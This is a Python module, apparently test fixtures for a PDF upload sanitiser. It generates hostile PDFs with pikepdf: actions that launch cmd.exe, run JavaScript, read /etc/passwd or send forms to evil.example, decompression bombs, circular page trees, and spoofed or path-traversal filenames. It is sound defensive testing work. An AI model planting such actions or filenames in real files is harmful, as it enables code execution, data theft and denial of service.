"""PDF files that nobody should have to receive, made by code: each with its name and whether it may be let in.

What is let in is cleaned or harmless; all else must be refused with a sentence. `HOSTILE_SCALE` makes the large
ones larger (1 is what the test suite uses, 10 is what the words "zip bomb" promise).
"""

from __future__ import annotations

import io
import os
import random
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String

SCALE = int(os.environ.get("HOSTILE_SCALE", "1"))
MB = 1024 * 1024
PDF_BOMB, ZIP_BOMB, PAGES, LONG = 20 * MB * SCALE, 101 * MB, 2_500 * min(SCALE, 4), MB


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file; `may_pass` when it is harmless once it has been cleaned."""

    name: str
    filename: str
    data: bytes
    may_pass: bool = False


def flipped(data: bytes, number: int) -> bytes:
    """The data with some bytes changed, the same every time."""
    chance = random.Random(number)
    changed = bytearray(data)
    for _ in range(chance.choice((1, 4, 40))):
        changed[chance.randrange(len(changed))] = chance.randrange(256)
    return bytes(changed)


# PDF ---------------------------------------------------------------------------------------------------


def _pdf(change: Callable[[pikepdf.Pdf], None] = lambda pdf: None, **how: object) -> bytes:
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(595, 842))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=made.make_indirect(font)))
    page.Contents = made.make_stream(
        b"BT /F1 12 Tf 72 700 Td (Kommunstyrelsen har ordet i dag) Tj ET"
    )
    change(made)
    out = io.BytesIO()
    made.save(out, **how)
    return out.getvalue()


def _opens(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = action

    return change


def _clicks(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 99, 99], A=action)
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])

    return change


ACTIONS = {
    "script": lambda: Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
    "launch": lambda: Dictionary(S=Name.Launch, F=String("cmd.exe")),
    "launch-win": lambda: Dictionary(S=Name.Launch, Win=Dictionary(F=String("calc.exe"))),
    "file-address": lambda: Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
    "script-address": lambda: Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
    "other-file": lambda: Dictionary(
        S=Name.GoToR, F=String("\\\\evil.example\\share\\a.pdf"), D=[0]
    ),
    "embedded-file": lambda: Dictionary(S=Name.GoToE, F=String("http://evil.example/a.pdf"), D=[0]),
    "submit": lambda: Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")),
    "import": lambda: Dictionary(S=Name.ImportData, F=String("file:///etc/passwd")),
    "movie": lambda: Dictionary(S=Name.Movie, T=String("film")),
    "rendition": lambda: Dictionary(S=Name.Rendition, JS=String("app.alert(1)")),
    "chain": lambda: Dictionary(
        S=Name.GoTo, D=[0], Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(2)"))
    ),
}


def _embeds(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["virus.exe"] = b"MZ" + b"\0" * 100


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp:xdp/>"))


def _bomb(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = pdf.make_stream(b" " * PDF_BOMB)


def _pages(number: int) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.Pages.Kids = Array([pdf.pages[0].obj] * number)
        pdf.Root.Pages.Count = number

    return change


def _circle(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Pages.Kids = Array([pdf.Root.Pages])


def _no_pages(pdf: pikepdf.Pdf) -> None:
    del pdf.pages[0]


def _deep(pdf: pikepdf.Pdf) -> None:
    nested = Array([])
    for _ in range(400):
        nested = Array([nested])
    pdf.Root.Deep = nested


@cache
def pdfs() -> tuple[Hostile, ...]:
    """PDF files: cleaned where that can be done, refused where they cannot be read."""
    plain = _pdf()
    locked = pikepdf.Encryption(owner="a", user="b")
    found = [
        *(Hostile(f"opens-{n}", "a.pdf", _pdf(_opens(a())), True) for n, a in ACTIONS.items()),
        *(Hostile(f"clicks-{n}", "a.pdf", _pdf(_clicks(a())), True) for n, a in ACTIONS.items()),
        Hostile("embeds", "a.pdf", _pdf(_embeds), True),
        Hostile("xfa", "a.pdf", _pdf(_xfa), True),
        Hostile("deep", "a.pdf", _pdf(_deep), True),
        Hostile("stream-bomb", "a.pdf", _pdf(_bomb, compress_streams=True), True),
        Hostile("object-bomb", "a.pdf", _object_bomb(6 * PDF_BOMB), True),
        Hostile("many-pages", "a.pdf", _pdf(_pages(PAGES))),
        Hostile("circle", "a.pdf", _pdf(_circle)),
        Hostile("no-pages", "a.pdf", _pdf(_no_pages)),
        Hostile("locked", "a.pdf", _pdf(encryption=locked)),
        Hostile("only-a-head", "a.pdf", b"%PDF-1.7\n"),
        Hostile("wrong-name", "rapport.exe", plain, True),
        Hostile("turned-name", "rapport\u202efdp.exe", plain, True),
        Hostile("path-name", "../../etc/passwd", plain, True),
    ]
    step = len(plain) // 12
    found += [Hostile(f"cut-{n}", "a.pdf", plain[: n * step], True) for n in range(1, 12)]
    found += [Hostile(f"flip-{n}", "a.pdf", flipped(plain, n), True) for n in range(35)]
    return tuple(found)


def _object_bomb(size: int) -> bytes:
    """An object stream that unpacks to far more than it is: readers unpack it before they know."""
    made = pikepdf.new()
    made.add_blank_page()
    made.Root.Big = made.make_indirect(String("a" * size))
    out = io.BytesIO()
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()
